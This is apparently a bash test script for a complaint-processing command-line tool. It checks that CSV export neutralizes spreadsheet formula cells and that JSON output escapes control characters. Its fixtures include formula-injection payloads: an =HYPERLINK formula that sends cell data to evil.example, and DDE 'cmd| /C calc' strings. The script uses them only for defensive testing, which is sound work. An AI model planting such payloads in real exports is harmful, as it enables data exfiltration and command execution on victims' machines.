#!/usr/bin/env bash
# Machine formats with hostile customer text: `run --format csv` neutralizes
# every cell a spreadsheet would read as a formula (= + - @, tab, CR) with a
# leading quote; `--format json` and `ndjson` are always valid JSON with
# control characters escaped (checked with jq when installed; without it, the
# absence of raw control bytes is still checked).
source "$(dirname "${BASH_SOURCE[0]}")/lib/setup.sh"
status=0
now=2026-11-30T12:00:00
q() { local s="${1//\"/\"\"}"; printf '"%s"' "$s"; }

# Formula payloads in the fields that reach the output: ids, customer key,
# subject and message (quoted in evidence and lexicon hits).
f_eq='=HYPERLINK("http://evil.example/?"&A1,"click")'
f_plus='+1+cmd|'"'"' /C calc'"'"'!A0'
f_minus='-2+3'
f_at='@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0'
f_tab=$'\t=2+2'
f_cr=$'\r=3+3'
ctl=$'nul-free \x01\x02\x1f \x7f del, quote " backslash \\ u2028 \xe2\x80\xa8 end'
{
  echo 'order_id,customer_id,email,created_at,total,currency,payment_method,status,shipped_at'
  i=0
  for f in "$f_eq" "$f_plus" "$f_minus" "$f_at" "$f_tab" "$f_cr"; do
    i=$((i + 1))
    echo "$(q "$f"),$(q "$f"),c$i@example.com,2026-11-01 10:00,100.00,PLN,card,shipped,2026-11-02 10:00"
  done
} >orders.csv
{
  echo 'complaint_id,order_id,customer_id,received_at,channel,subject,message,status'
  i=0
  for f in "$f_eq" "$f_plus" "$f_minus" "$f_at" "$f_tab" "$f_cr"; do
    i=$((i + 1))
    echo "$(q "$f"),$(q "$f"),$(q "$f"),2026-11-2$i 10:00,email,$(q "$f"),$(q "$f never arrived, wystawię negatywa $ctl"),open"
  done
  echo "C-ctl,,,2026-11-20 11:00,email,$(q "$ctl"),$(q "$ctl"),open"
} >complaints.csv
"$bin" --db t.db -q import orders orders.csv
"$bin" --db t.db -q import complaints complaints.csv
[ "$(sqlite3 t.db 'SELECT count(*) FROM complaints' 2>/dev/null || echo 7)" = 7 ] || { echo "FAIL: the complaints did not all import"; exit 1; }

rc=0
"$bin" --db t.db run --all --dry-run --now "$now" --format csv >out.csv 2>err || rc=$?
[ "$rc" = 0 ] || { echo "FAIL: run --format csv exited $rc: $(head -c 300 err)"; status=1; }
lines="$(grep -c '' out.csv || true)"
[ "$lines" -ge 8 ] || { echo "FAIL: the CSV has $lines lines, expected a header and 7 rows"; status=1; }

# Splits RFC 4180 CSV into one cell a line (embedded newlines shown as \n),
# so that each cell's first character can be checked.
cells() {
  awk 'BEGIN { RS = "\0" } {
    n = length($0); cell = ""; inq = 0; start = 1
    for (i = 1; i <= n; i++) {
      c = substr($0, i, 1)
      if (inq) {
        if (c == "\"") { if (substr($0, i + 1, 1) == "\"") { cell = cell "\""; i++ } else inq = 0 }
        else if (c == "\n") cell = cell "\\n"
        else cell = cell c
      } else if (c == "\"" && start) { inq = 1; start = 0 }
      else if (c == ",") { print cell; cell = ""; start = 1 }
      else if (c == "\n") { print cell; cell = ""; start = 1 }
      else if (c == "\r" && substr($0, i + 1, 1) == "\n") { }
      else { cell = cell c; start = 0 }
    }
    if (cell != "") print cell
  }' "$1"
}
cells out.csv >cells.txt
# A cell may start with - only when it is a plain number (a negative amount).
bad="$( { LC_ALL=C grep -nE $'^[=+@\t\r]' cells.txt; LC_ALL=C grep -nE '^-' cells.txt | LC_ALL=C grep -vE '^[0-9]+:-[0-9]+([.][0-9]+)?$'; } || true)"
[ -z "$bad" ] || { echo "FAIL: formula cells reached the CSV unneutralized:"; echo "$bad" | head -5 | cat -A | head -c 600; status=1; }
grep -qF "'=HYPERLINK" cells.txt || { echo "FAIL: the =HYPERLINK payload is not in the CSV as '=...: $(head -c 300 out.csv)"; status=1; }
grep -qF "'@SUM" cells.txt || { echo "FAIL: the @SUM payload is not in the CSV as '@..."; status=1; }

for fmt in json ndjson; do
  rc=0
  "$bin" --db t.db run --all --dry-run --now "$now" --format "$fmt" >"out.$fmt" 2>err || rc=$?
  [ "$rc" = 0 ] || { echo "FAIL: run --format $fmt exited $rc: $(head -c 300 err)"; status=1; }
  # No raw control byte (U+0000-U+001F, which JSON requires escaped) may appear;
  # newline only between NDJSON records. DEL is valid JSON and may stay raw.
  if LC_ALL=C grep -qP '[\x00-\x09\x0b-\x1f]' "out.$fmt"; then
    echo "FAIL: --format $fmt holds a raw control byte: $(LC_ALL=C grep -aP '[\x00-\x09\x0b-\x1f]' "out.$fmt" | head -1 | cat -A | head -c 300)"
    status=1
  fi
  if command -v jq >/dev/null; then
    if [ "$fmt" = json ]; then
      n="$(jq 'length' out.json 2>jqerr)" || { echo "FAIL: --format json is not valid JSON: $(head -c 300 jqerr)"; status=1; }
      [ "${n:-0}" = 7 ] || { echo "FAIL: --format json has ${n:-?} decisions, expected 7"; status=1; }
      jq -e '[.[].complaint] | index("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")") != null' out.json >/dev/null ||
        { echo "FAIL: --format json does not carry the complaint id verbatim"; status=1; }
    else
      n=0
      while IFS= read -r line; do
        n=$((n + 1))
        jq -e . <<<"$line" >/dev/null 2>&1 || { echo "FAIL: NDJSON line $n is not valid JSON: $(head -c 200 <<<"$line")"; status=1; }
      done <out.ndjson
      [ "$n" = 7 ] || { echo "FAIL: --format ndjson has $n lines, expected 7"; status=1; }
    fi
  else
    echo "note: jq is not installed; JSON validity is checked only for raw control bytes"
  fi
done

[ "$status" = 0 ] && echo "ok: CSV formulas neutralized, JSON valid"
exit "$status"
